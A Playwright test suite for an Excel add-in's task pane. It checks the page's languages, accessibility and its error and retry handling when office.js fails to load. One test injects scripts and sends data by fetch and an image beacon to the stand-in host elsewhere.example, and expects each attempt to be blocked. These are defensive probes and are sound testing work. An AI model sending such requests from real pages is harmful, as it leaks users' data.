import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { chromium, type Browser, type Page, type Route } from 'playwright-core';
import { serveWorkbench, type Served } from '../../scripts/serve/server.ts';
import { misfits, objections } from './audit.ts';

const root = path.join(__dirname, '../..');
const office = 'https://appsforoffice.microsoft.com/lib/1/hosted/';

/** Answers Microsoft's address from the installed package. */
function fromPackage(route: Route): Promise<void> {
  const file = path.join(root, 'node_modules/@microsoft/office-js/dist', new URL(route.request().url()).pathname.replace('/lib/1/hosted/', ''));
  return existsSync(file) ? route.fulfill({ body: readFileSync(file), contentType: 'text/javascript' }) : route.abort();
}

describe('the add-in’s page in an ordinary browser', () => {
  let served: Served;
  let browser: Browser;
  let page: Page;
  const asked: string[] = [];
  beforeAll(async () => {
    served = await serveWorkbench(root, 0);
    browser = await chromium.launch({ executablePath: process.env['CHROME_PATH'] ?? '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking'] });
  });
  afterAll(async () => {
    await browser?.close();
    await served?.close();
  });
  beforeEach(async () => {
    page = await browser.newPage({ locale: 'ru-RU' });
    asked.length = 0;
    page.on('request', (request) => asked.push(request.url()));
  });
  afterEach(() => page.close());

  const open = () => page.goto(`${served.address}site/taskpane.html`, { waitUntil: 'commit' });

  it('says what Tirek is and how to get it, in three languages, and asks nobody but its site and Microsoft’s office.js', async () => {
    await page.route(`${office}**`, fromPackage);
    await open();
    await page.locator('section[lang="en-US"]').waitFor();
    expect(await page.locator('section').evaluateAll((sections) => sections.map((section) => section.getAttribute('lang')))).toEqual(['kk-KZ', 'ru-RU', 'en-US']);
    expect(asked.filter((url) => !url.startsWith(served.address) && !url.startsWith(office))).toEqual([]);
    expect(asked).toContain(`${office}office.js`);
  });

  it('says so to everybody: narrow, dark, heard', async () => {
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.unrouteAll();
      await page.emulateMedia({ colorScheme });
      await page.setViewportSize({ width: 320, height: 700 });
      await page.route(`${office}**`, fromPackage);
      await open();
      await page.locator('section[lang="en-US"]').waitFor();
      expect([...(await misfits(page)), ...(await objections(page))]).toEqual([]);
      await page.unrouteAll();
      await page.route(`${office}**`, (route) => route.abort());
      await open();
      await page.getByRole('alert').waitFor();
      expect([...(await misfits(page)), ...(await objections(page))]).toEqual([]);
    }
  });

  it('tells a person after a quarter of a minute that Microsoft’s address does not answer, and offers to try again', async () => {
    await page.clock.install();
    await page.route(`${office}**`, () => undefined);
    await open();
    await page.getByRole('status').waitFor();
    await page.clock.fastForward(14_000);
    expect(await page.getByRole('alert').count()).toBe(0);
    await page.clock.fastForward(1_000);
    expect(await page.getByRole('alert').textContent()).toContain('Excel не ответил');
    await page.unroute(`${office}**`);
    await page.route(`${office}**`, fromPackage);
    await page.getByRole('button', { name: 'Открыть заново' }).click();
    await page.locator('section[lang="kk-KZ"]').waitFor();
  });

  it('tells it at once where the address is refused', async () => {
    await page.route(`${office}**`, (route) => route.abort());
    await open();
    expect(await page.getByRole('alert').textContent()).toContain('Excel не ответил');
  });

  it('runs no script but those of its site and of office.js, and connects to nobody else', async () => {
    const reached: string[] = [];
    await page.route('https://elsewhere.example/**', (route) => {
      reached.push(route.request().url());
      return route.fulfill({ body: 'window.intruder = true;', contentType: 'text/javascript', headers: { 'Access-Control-Allow-Origin': '*' } });
    });
    await page.route(`${office}**`, fromPackage);
    await open();
    await page.locator('section').first().waitFor();
    const tried = await page.evaluate(async () => {
      const attempt = (src: string, text: string) =>
        new Promise<void>((resolve) => {
          const script = document.createElement('script');
          if (src) script.src = src;
          script.textContent = text;
          script.onload = script.onerror = () => resolve();
          document.head.append(script);
          if (!src) resolve();
        });
      await attempt('', 'window.intruder = true;');
      await attempt('https://elsewhere.example/x.js', '');
      const sent = await fetch('https://elsewhere.example/?cells', { mode: 'cors' }).then(() => 'sent', () => 'refused');
      const beacon = await new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve('sent');
        image.onerror = () => resolve('refused');
        image.src = 'https://elsewhere.example/x.png?cells';
      });
      return { intruder: 'intruder' in window, sent, beacon };
    });
    expect(tried).toEqual({ intruder: false, sent: 'refused', beacon: 'refused' });
    expect(reached).toEqual([]);
  });
});
